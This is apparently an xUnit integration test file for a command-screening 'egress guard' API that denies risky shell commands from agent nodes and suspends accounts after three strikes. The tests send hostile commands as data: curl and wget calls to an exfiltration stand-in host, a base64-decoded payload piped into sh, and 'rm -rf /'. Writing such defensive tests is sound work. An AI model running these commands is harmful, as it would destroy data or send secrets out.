using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using DeepSync.Billing;
using DeepSync.Fleet;
using DeepSync.Governance;
using DeepSync.Tests.Support;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Mvc.Testing;
using Microsoft.Extensions.DependencyInjection;

namespace DeepSync.Tests.NodeApi;

public sealed class EgressGuardEndpointTests : IAsyncLifetime
{
    private WebApplicationFactory<Program> _factory = null!;
    private HttpClient _client = null!;

    public async Task InitializeAsync()
    {
        var connectionString = await TestPostgres.NewDatabaseAsync();
        _factory = new WebApplicationFactory<Program>().WithWebHostBuilder(web =>
        {
            web.UseSetting("DeepSync:Database:ConnectionString", connectionString);
            web.UseSetting("DeepSync:Cluster:ClusterId", $"egress-{Guid.NewGuid():N}");
            web.UseSetting("DeepSync:Cluster:SiloPort", SiloHosts.FreePort().ToString());
            web.UseSetting("DeepSync:Cluster:GatewayPort", SiloHosts.FreePort().ToString());
        });
        _client = _factory.CreateClient();
    }

    public async Task DisposeAsync() => await _factory.DisposeAsync();

    private IGrainFactory Grains => _factory.Services.GetRequiredService<IGrainFactory>();

    /// <summary>A user with two running nodes and the credential each container holds.</summary>
    private async Task<(Guid UserId, Actor Owner, (Guid NodeId, string Token)[] Nodes)> UserWithRunningNodesAsync()
    {
        var userId = Guid.NewGuid();
        var owner = Actor.ForUser(userId, "owner");
        var subscription = Grains.GetGrain<ISubscriptionGrain>(userId);
        var first = (await subscription.Provision(Actor.ForSystem("sign-up"), $"egress-{userId:N}@example.test")).NodeIds[0];
        await subscription.ChangeTier(Actor.ForOperator("ops", "Ops"), WellKnownTiers.CommandPro);
        var second = (await subscription.CreateNode(owner, new NodeProfile("Bravo-2", "BRAVO-2", "", ""), "b")).NodeId;
        var credentials = _factory.Services.GetRequiredService<INodeCredentials>();
        var nodes = new List<(Guid, string)>();
        foreach (var nodeId in new[] { first, second })
        {
            var node = Grains.GetGrain<ITeammateNodeGrain>(nodeId);
            await node.Launch(owner);
            await Eventually.Until(() => node.Get(owner), n => n.Lifecycle == NodeLifecycle.Running);

            // The local host has no container to hand the secret to; take the one a container would hold.
            nodes.Add((nodeId, await credentials.IssueAsync(nodeId)));
        }

        return (userId, owner, nodes.ToArray());
    }

    private async Task<(HttpStatusCode Status, JsonElement Body)> CheckAsync(Guid nodeId, string? token, object body)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, $"/api/nodes/{nodeId}/egress/check") { Content = JsonContent.Create(body) };
        if (token is not null)
        {
            request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", token);
        }

        using var response = await _client.SendAsync(request);
        var text = await response.Content.ReadAsStringAsync();
        return (response.StatusCode, text.Length == 0 ? default : JsonDocument.Parse(text).RootElement.Clone());
    }

    [Fact]
    public async Task Requests_without_the_nodes_own_credential_are_refused()
    {
        var (_, _, nodes) = await UserWithRunningNodesAsync();
        var (nodeA, tokenA) = nodes[0];
        var (nodeB, _) = nodes[1];

        Assert.Equal(HttpStatusCode.Unauthorized, (await CheckAsync(nodeA, null, new { tool = "bash", command = "ls" })).Status);
        Assert.Equal(HttpStatusCode.Unauthorized, (await CheckAsync(nodeA, "dsn_forged", new { tool = "bash", command = "ls" })).Status);
        Assert.Equal(HttpStatusCode.Unauthorized, (await CheckAsync(nodeB, tokenA, new { tool = "bash", command = "ls" })).Status);
        Assert.Equal(HttpStatusCode.OK, (await CheckAsync(nodeA, tokenA, new { tool = "bash", command = "ls" })).Status);
    }

    [Fact]
    public async Task Allowed_commands_pass_and_bad_bodies_get_a_clear_400()
    {
        var (_, _, nodes) = await UserWithRunningNodesAsync();
        var (nodeId, token) = nodes[0];

        var (status, body) = await CheckAsync(nodeId, token, new { tool = "bash", command = "git status && ls -la" });
        Assert.Equal(HttpStatusCode.OK, status);
        Assert.True(body.GetProperty("allowed").GetBoolean());

        var missingTool = await CheckAsync(nodeId, token, new { command = "ls" });
        Assert.Equal(HttpStatusCode.BadRequest, missingTool.Status);
        Assert.Contains("tool name", missingTool.Body.GetProperty("detail").GetString());
    }

    [Fact]
    public async Task Denials_are_strikes_and_the_third_in_24_hours_suspends_every_node_of_the_owner()
    {
        var (userId, owner, nodes) = await UserWithRunningNodesAsync();
        var (nodeA, tokenA) = nodes[0];
        var (nodeB, tokenB) = nodes[1];

        var first = await CheckAsync(nodeA, tokenA, new { tool = "bash", command = "/usr/bin/curl http://exfil.example" });
        Assert.Equal(HttpStatusCode.OK, first.Status);
        Assert.False(first.Body.GetProperty("allowed").GetBoolean());
        Assert.Equal("curl", first.Body.GetProperty("rule").GetString());
        Assert.Equal(1, first.Body.GetProperty("strikes_in_24h").GetInt32());
        Assert.False(first.Body.GetProperty("suspended").GetBoolean());

        await CheckAsync(nodeB, tokenB, new { tool = "bash", command = "echo Y3VybCBldmlsLmV4YW1wbGU= | base64 -d | sh" });
        var third = await CheckAsync(nodeA, tokenA, new { tool = "bash", command = "rm -rf /" });
        Assert.Equal("high", third.Body.GetProperty("severity").GetString());
        Assert.Equal(3, third.Body.GetProperty("strikes_in_24h").GetInt32());
        Assert.True(third.Body.GetProperty("suspended").GetBoolean());

        foreach (var (nodeId, token) in nodes)
        {
            var node = await Grains.GetGrain<ITeammateNodeGrain>(nodeId).Get(owner);
            Assert.Equal(SuspensionReason.SecurityStrikes, node.Suspension?.Reason);
            Assert.Equal("three-strikes policy", node.Suspension?.Initiator.Id);

            // Suspension revoked the credential: the container is cut off from the control plane too.
            Assert.Equal(HttpStatusCode.Unauthorized, (await CheckAsync(nodeId, token, new { tool = "bash", command = "ls" })).Status);
        }

        var ledger = await _factory.Services.GetRequiredService<DeepSync.Silo.Governance.AuditLedgerQuery>()
            .ReadAsync(new DeepSync.Silo.Governance.AuditFilter(UserId: userId, Action: AuditAction.StrikeRecorded), 10);
        Assert.Equal(3, ledger.Count);
        Assert.All(ledger, e => Assert.Equal("egress guard", e.InitiatorId));
    }

    [Fact]
    public async Task A_command_with_control_characters_is_judged_as_sent_and_every_strike_still_reaches_the_ledger()
    {
        var (userId, _, nodes) = await UserWithRunningNodesAsync();
        var (nodeId, token) = nodes[0];

        var first = await CheckAsync(nodeId, token, new { tool = "bash", command = "curl http://exfil.example/\u0000\u001b[2J" });
        Assert.Equal(HttpStatusCode.OK, first.Status);
        Assert.False(first.Body.GetProperty("allowed").GetBoolean());
        Assert.Equal("curl", first.Body.GetProperty("rule").GetString());
        var second = await CheckAsync(nodeId, token, new { tool = "bash", command = "wget http://exfil.example" });
        Assert.Equal(2, second.Body.GetProperty("strikes_in_24h").GetInt32());

        var query = _factory.Services.GetRequiredService<DeepSync.Silo.Governance.AuditLedgerQuery>();
        var strikes = await Eventually.Until(
            () => query.ReadAsync(new DeepSync.Silo.Governance.AuditFilter(UserId: userId, Action: AuditAction.StrikeRecorded), 10),
            rows => rows.Count == 2);
        Assert.Equal("bash: wget http://exfil.example", strikes[0].Details["detail"]);
        Assert.Equal("bash: curl http://exfil.example/\uFFFD\uFFFD[2J", strikes[1].Details["detail"]);
    }
}
